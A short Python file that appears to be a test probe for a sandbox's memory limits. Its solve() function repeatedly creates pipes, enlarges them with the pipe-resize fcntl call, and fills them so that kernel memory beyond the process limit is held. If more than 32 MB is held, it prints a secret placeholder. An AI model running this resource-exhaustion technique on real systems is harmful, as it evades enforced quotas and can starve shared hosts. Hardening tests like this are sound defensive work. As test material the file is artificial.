# class: exhaust
# success: memory beyond the limit is held in pipes
import fcntl, os

def solve(x):
    held = 0
    try:
        while True:
            _, end = os.pipe()
            os.set_blocking(end, False)
            try:
                fcntl.fcntl(end, 1031, 1 << 20)
            except OSError:
                pass
            try:
                while True:
                    held += os.write(end, b"x" * 65536)
            except BlockingIOError:
                pass
    except OSError as error:
        print(error.errno)
    if held > 32 << 20:
        print("{{secret}}", held)
    return 0
